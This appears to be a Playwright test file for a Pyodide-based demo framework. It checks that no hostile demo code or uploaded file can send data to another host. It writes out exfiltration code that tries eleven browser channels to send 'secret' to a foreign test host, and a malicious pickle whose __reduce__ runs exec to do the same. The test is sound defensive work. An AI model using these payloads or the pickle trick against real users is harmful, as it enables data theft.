"""A demo, or a reader's file that a demo opens, is hostile: nothing of what Python holds leaves the
browser, on a host that sends no policy with its files.
"""

import pickle
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Page, expect

HOSTILE = """
    import sys
    from typing import Annotated

    from coldframe import Button, File, demo

    done = []


    def settle(name, promise):
        from pyodide.ffi import create_proxy

        ended = create_proxy(lambda *_: done.append(name))
        promise.then(ended, ended)


    def events(name, source):
        from pyodide.ffi import create_proxy

        source.onopen = source.onmessage = create_proxy(lambda *_: done.append(f"{name} is open"))
        source.onerror = create_proxy(lambda *_: done.append(name))


    def xhr(js, host):
        request = js.XMLHttpRequest.new()
        request.open("GET", f"{host}/xhr?text=secret", False)
        request.send()


    def plain(js, host):
        settle("fetch", js.fetch(f"{host}/fetch?text=secret"))


    def opaque(js, host):
        request = js.Request.new(f"{host}/request", mode="no-cors", method="POST", body="secret")
        settle("request", js.fetch(request))


    def socket(js, host):
        events("socket", js.WebSocket.new(f"{host.replace('http', 'ws')}/socket"))


    def stream(js, host):
        events("events", js.EventSource.new(f"{host}/events"))


    def scripts(js, host):
        js.importScripts(f"{host}/scripts.js")


    def font(js, host):
        settle("font", js.FontFace.new("x", f"url({host}/font.woff2)").load())


    def evaluated(js, host):
        js.eval(f"import('{host}/evaluated.js')")


    def package(js, host):
        import pyodide_js

        settle("package", pyodide_js.loadPackage(f"{host}/x-1.0-py3-none-any.whl"))


    def nested(js, host):

        # The site's own script, from its address: it would have no policy there.
        runtime = js.URL.new("worker.js", PATH).href
        js.Worker.new(runtime, type="module")
        done.append("a worker started")


    def blob(js, host):
        code = f"fetch('{host}/blob').catch(() => 0)"
        js.Worker.new(js.URL.createObjectURL(js.Blob.new([code])))
        done.append("a worker started")


    WAYS = [xhr, plain, opaque, socket, stream, scripts, font, evaluated, package, nested, blob]
    PATH = ""


    def attack(host):
        import js

        for way in WAYS:
            try:
                way(js, host)
            except BaseException as error:
                yield f"{way.__name__}: {type(error).__name__} {error}"


    @demo
    def leak(host: str = "", runtime: str = ""):
        global PATH
        PATH = runtime
        tried = attack(host) if host and sys.platform == "emscripten" else ()
        return " / ".join([f"asked {host}", *tried])


    @demo
    def settled(look: Annotated[int, Button()] = 0):
        return " ".join(sorted(done))


    @demo
    def near(address: str = ""):
        if not address or sys.platform != "emscripten":
            return ""
        import js

        request = js.XMLHttpRequest.new()
        request.open("GET", address, False)
        request.send()
        return request.responseText


    @demo
    def opened(file: Annotated[bytes, File()] = b""):
        import pickle

        return f"It is {pickle.loads(file)}" if file else "Nothing"
"""
FILES = {
    "content/index.md": """
        # Page

        :::{demo} hostile:leak
        :::

        :::{demo} hostile:settled
        :::

        :::{demo} hostile:opened
        :::

        :::{demo} hostile:near
        :::
    """,
    "content/hostile.py": HOSTILE,
    "static/near.txt": "It is near.",
}
BLOCKED = "events fetch font package request socket"


@pytest.fixture(scope="module")
def site(demo_site: Any) -> Any:
    return demo_site(FILES)


def test_nothing_that_a_demo_does_reaches_another_host(page: Page, site: Any, foreign: Any) -> None:
    page.goto(site.url)
    runtime = page.locator("script[type=module]").first.evaluate("script => script.src")
    page.get_by_label("Runtime").fill(runtime)
    page.get_by_label("Host").fill(foreign.url)
    page.get_by_label("Host").press("Enter")
    said = page.locator("#leak .demo-result")
    expect(said).to_contain_text(f"asked {foreign.url}")
    expect(said).to_contain_text("xhr: JsException NetworkError")
    expect(said).to_contain_text("nested: AttributeError Worker")
    expect(said).to_contain_text("blob: AttributeError Worker")
    look = page.locator("#settled")

    def asked_again() -> str:
        look.get_by_role("button", name="Look").click()
        expect(look.locator(".chip")).to_have_text("computed here")
        return look.locator(".demo-result").inner_text()

    until(page, asked_again, BLOCKED)
    assert foreign.heard == []


def test_nothing_that_a_readers_file_does_reaches_another_host(
    page: Page, site: Any, foreign: Any, tmp_path: Path
) -> None:
    hostile = tmp_path / "model.pkl"
    hostile.write_bytes(pickle.dumps(Hostile(foreign.url)))
    page.goto(site.url)
    page.locator("#opened input[type=file]").set_input_files(hostile)
    expect(page.locator("#opened .demo-error")).to_contain_text("NetworkError")
    assert foreign.heard == []


def test_a_demo_reaches_files_of_the_site_by_their_path(page: Page, site: Any) -> None:
    page.goto(site.url)
    page.get_by_label("Address").fill("/near.txt")
    page.get_by_label("Address").press("Enter")
    expect(page.locator("#near .demo-result")).to_have_text("It is near.")


class Hostile:
    """A pickle that sends what it finds."""

    def __init__(self, host: str) -> None:
        self.host = host

    def __reduce__(self) -> Any:
        code = (
            "import js; request = js.XMLHttpRequest.new();"
            f"request.open('GET', '{self.host}/pickle?text=secret', False); request.send()"
        )
        return exec, (code,)


def until(page: Page, ask: Any, answer: str) -> None:
    """What promises and events say comes with a later turn of the worker."""
    for _ in range(50):
        found = ask()
        if found == answer:
            return
        page.wait_for_timeout(100)
    assert found == answer


def test_in_firefox_nothing_that_a_demo_does_reaches_another_host(
    firefox: Any, site: Any, foreign: Any
) -> None:
    firefox.open(site.url)
    runtime = firefox.evaluate("document.querySelector('script[type=module]').src")
    firefox.until("!document.querySelector('#leak fieldset').disabled", True)
    firefox.enter("#leak-runtime", runtime)
    firefox.enter("#leak-host", foreign.url)
    result = "document.querySelector('#leak .demo-result').textContent"
    firefox.until(f"{result}.includes('asked {foreign.url}')", True)
    for _ in range(3):
        firefox.click("#settled button[name=look]")
    said = "document.querySelector('#settled .demo-result').textContent"
    firefox.until(f"{said}.includes('fetch')", True)
    assert " is open" not in firefox.evaluate(said)
    assert "a worker started" not in firefox.evaluate(said)
    assert foreign.heard == []
